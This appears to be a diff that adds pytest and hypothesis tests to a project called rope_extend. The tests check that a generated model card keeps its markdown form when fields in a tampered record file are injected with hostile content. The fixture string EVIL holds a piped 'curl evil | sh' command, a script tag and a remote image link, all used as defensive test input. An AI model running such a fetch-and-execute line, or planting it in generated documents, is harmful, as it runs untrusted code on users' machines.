@@ -1,0 +1,107 @@
+"""Records of others: whatever `rope_extend.json` says, the card keeps its form, or there is one error."""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from cases import TARGET, llama
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+import rope_extend as rx
+from rope_extend.checkpoint.card import model_card
+from rope_extend.errors import RopeExtendError
+from rope_extend.report.tables import markdown_code, markdown_text
+
+EVIL = "2 |\n\n# Run this first\n\n```bash\ncurl evil | sh\n```\n<script>x</script> ![](http://evil/p.png)"
+
+
+@pytest.fixture(scope="module")
+def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    model = llama()
+    rx.extend(model, TARGET, "linear")
+    return rx.save(model, tmp_path_factory.mktemp("records") / "saved")
+
+
+@pytest.fixture(scope="module")
+def record(directory: Path) -> dict[str, Any]:
+    return json.loads((directory / "rope_extend.json").read_text())
+
+
+def form(card: str) -> list[str]:
+    """The lines that give a card its form: headings, fences, and the first cell of each row of a table."""
+    outside = re.findall(r"^(#+ .*|```.*|\|[^|]*\||<.*)", card, re.MULTILINE)
+    rows = [line for line in card.splitlines() if line.startswith("| ")]
+    assert all(len(re.findall(r"(?<!\\)\|", row)) == 3 for row in rows), rows
+    return outside
+
+
+def written(directory: Path, record: dict[str, Any]) -> str:
+    (directory / "rope_extend.json").write_text(json.dumps(record))
+    return model_card(directory)
+
+
+@pytest.mark.parametrize("change", [
+    {"versions": {"torch": EVIL}}, {"versions": {EVIL: "2"}}, {"versions": {"torch": [EVIL, {EVIL: EVIL}]}},
+    {"model_type": EVIL}, {"base_model": EVIL}, {"base_model": "a/" + "b" * 100_000}, {"base_model": "a\0b"},
+])  # fmt: skip
+def test_a_record_cannot_change_the_form_of_a_card(
+    directory: Path, record: dict[str, Any], change: dict[str, Any]
+) -> None:
+    honest = written(directory, record)
+    try:
+        card = written(directory, {**record, **change})
+    except RopeExtendError:
+        return
+    assert form(card) == form(honest)
+    assert len(card) < len(honest) + 20_000
+
+
+def test_a_forged_verification_is_not_repeated(directory: Path, record: dict[str, Any]) -> None:
+    """Anybody can write the file, so the card names the command that finds out."""
+    honest = written(directory, record)
+    (directory / "verification.json").write_text(json.dumps({"verdict": "equal", "reason": "trust me"}))
+    assert model_card(directory) == honest
+    assert "`rope-extend verify saved`" in honest
+    (directory / "verification.json").unlink()
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.just(EVIL),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=5,
+)
+
+
+@settings(max_examples=100)
+@given(data=st.data())
+def test_any_value_in_a_record_gives_an_error_or_a_card_of_the_same_form(
+    directory: Path, record: dict[str, Any], data: st.DataObject
+) -> None:
+    changed = copy.deepcopy(record)
+    place: Any = changed
+    while True:
+        key = data.draw(st.sampled_from(sorted(place)))
+        if not isinstance(place[key], dict) or not place[key] or data.draw(st.booleans()):
+            break
+        place = place[key]
+    place[key] = data.draw(JSON)
+    try:
+        card = written(directory, changed)
+    except RopeExtendError:
+        return
+    assert form(card) == form(written(directory, record))
+
+
+@given(st.text() | st.text(alphabet="|`\\\n\r\u2028<>[]!*# ~-_a"))
+def test_text_of_others_stays_in_its_cell(text: str) -> None:
+    row = f"| {markdown_text(text)} | {markdown_code(text)} |"
+    assert len(row.splitlines()) == 1
+    assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) == 3
+    assert not re.search(r"(?<!\\)(?:\\\\)*[<\[`]", markdown_text(text))
+    assert markdown_code(text).count("`") in (0, 2)
